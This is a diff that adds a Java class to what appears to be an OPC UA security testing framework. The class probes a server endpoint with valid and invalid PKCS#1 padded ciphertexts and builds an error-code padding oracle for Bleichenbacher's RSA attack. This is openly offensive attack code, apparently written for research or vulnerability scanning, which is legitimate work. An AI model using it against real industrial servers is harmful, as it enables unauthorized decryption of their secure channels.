@@ -0,0 +1,121 @@
+package attacks.bleichenbacher.oracle.learner;
+
+import attacks.bleichenbacher.BleichenbacherUtility;
+import attacks.manger.oracle.DistinguishableErrorOracle;
+import attacks.manger.oracle.Oracle;
+import attacks.manger.oracle.OracleException;
+import attacks.manger.oracle.QueryScheduler;
+import attacks.manger.oracle.VictimProxy;
+import attacks.manger.oracle.learner.LearningResult;
+import attacks.manger.oracle.learner.OracleLearner;
+import opcua.context.Endpoint;
+import opcua.context.LocalKeyPair;
+import opcua.encoding.EncodingException;
+import opcua.message.ErrorMessage;
+import reporting.entry.Entry;
+import reporting.entry.Group;
+import reporting.entry.ValueEntry;
+import transport.SecureChannelUtil;
+
+import java.io.IOException;
+import java.util.ArrayList;
+import java.util.List;
+
+/**
+ * Learner that tries to construct an oracle for Bleichenbacher's attack, which distinguishes the error codes for
+ * PKCS#1 conforming and non-conforming plaintexts.
+ */
+public class Pkcs1ErrorCodeOracleLearner implements OracleLearner {
+
+    private final int numberOfVerifications;
+    private final LocalKeyPair localKeyPair;
+
+    /**
+     * Constructor
+     * @param localKeyPair Certificate and private key to use for queries
+     * @param numberOfVerifications How often to verify, if an error code was not returned by chance
+     */
+    public Pkcs1ErrorCodeOracleLearner(LocalKeyPair localKeyPair, int numberOfVerifications) {
+        this.localKeyPair = localKeyPair;
+        this.numberOfVerifications = numberOfVerifications;
+    }
+
+    /**
+     * Constructor that will create a new self-signed certificate for queries
+     * @param numberOfVerifications How often to verify, if an error code was not returned by chance
+     */
+    public Pkcs1ErrorCodeOracleLearner(int numberOfVerifications) {
+        this.numberOfVerifications = numberOfVerifications;
+        this.localKeyPair = LocalKeyPair.generateSelfSigned(2048, "CN:OpcUa-Attacker");
+    }
+
+    /**
+     * Tries to learn an error code oracle for Bleichenbacher's attack for a specific endpoint
+     * @param endpoint Endpoint to test
+     * @return The result of the learning, including the oracle, if successful
+     * @throws OracleException if security configuration of endpoint does not allow for Bleichenbacher's attack
+     */
+    @Override
+    public LearningResult learn(Endpoint endpoint) throws OracleException {
+        BleichenbacherUtility.throwIfSecurityConfigurationUnsupported(endpoint);
+
+        try {
+            byte[] validCipherText = SecureChannelUtil.generateEncryptedOpnRequest(endpoint, localKeyPair);
+            VictimProxy victimProxy = new VictimProxy(endpoint, validCipherText);
+            victimProxy.setQueryScheduler(QueryScheduler.forEndpoint(endpoint), QueryScheduler.Priority.CALIBRATION);
+
+            long errorCodeConforming = ((ErrorMessage)victimProxy.sendEncryptedPlainBlock(BleichenbacherUtility.generateConformingPlaintext(endpoint.getPublicKey())).getResponse()).getError();
+            for (VictimProxy.QueryResult queryResult : victimProxy.sendEncryptedPlainBlocks(generateConformingPlaintexts(endpoint), Oracle.defaultExecutor())) {
+                if(((ErrorMessage)queryResult.getResponse()).getError() != errorCodeConforming) {
+                    return createFailureResult("Server responded with multiple error codes for conforming plaintexts");
+                }
+            }
+
+            long errorCodeNonConforming = ((ErrorMessage)victimProxy.sendEncryptedPlainBlock(BleichenbacherUtility.generateNonConformingPlaintext(endpoint.getPublicKey())).getResponse()).getError();
+            if (errorCodeConforming == errorCodeNonConforming) {
+                return createFailureResult("Server responded with equal error codes for conforming and non-conforming plaintexts (\"" + Long.toHexString(errorCodeConforming) + "\")");
+            }
+            for (VictimProxy.QueryResult queryResult : victimProxy.sendEncryptedPlainBlocks(generateNonConformingPlaintexts(endpoint), Oracle.defaultExecutor())) {
+                if(((ErrorMessage)queryResult.getResponse()).getError() != errorCodeNonConforming) {
+                    return createFailureResult("Server responded with multiple error codes for non-conforming plaintexts");
+                }
+            }
+
+            DistinguishableErrorOracle oracle = new DistinguishableErrorOracle(endpoint, (ErrorMessage e) -> e.getError() == errorCodeConforming, validCipherText);
+            // The decision only depends on the error code
+            oracle.setHeaderOnly(true);
+            Entry report = new Group("Pkcs1ErrorCodeOracleLearner")
+                    .addSubEntry(new ValueEntry<>("Successful", true))
+                    .addSubEntry(new ValueEntry<>("Error Code for conforming plaintexts", errorCodeConforming))
+                    .addSubEntry(new ValueEntry<>("Error Code for non-conforming plaintexts", errorCodeNonConforming));
+
+            return new LearningResult(oracle, report);
+        }
+        catch (EncodingException | IOException e) {
+            throw new OracleException(e);
+        }
+    }
+
+    private List<byte[]> generateConformingPlaintexts(Endpoint endpoint) {
+        List<byte[]> plainBlocks = new ArrayList<>(numberOfVerifications);
+        for (int i=0; i<numberOfVerifications; i++) {
+            plainBlocks.add(BleichenbacherUtility.generateConformingPlaintext(endpoint.getPublicKey()));
+        }
+        return plainBlocks;
+    }
+
+    private List<byte[]> generateNonConformingPlaintexts(Endpoint endpoint) {
+        List<byte[]> plainBlocks = new ArrayList<>(numberOfVerifications);
+        for (int i=0; i<numberOfVerifications; i++) {
+            plainBlocks.add(BleichenbacherUtility.generateNonConformingPlaintext(endpoint.getPublicKey()));
+        }
+        return plainBlocks;
+    }
+
+    private static LearningResult createFailureResult(String reason) {
+        Entry report = new Group("Pkcs1ErrorCodeOracleLearner")
+                .addSubEntry(new ValueEntry<>("Successful", false))
+                .addSubEntry(new ValueEntry<>("Reason", reason));
+        return new LearningResult(report);
+    }
+}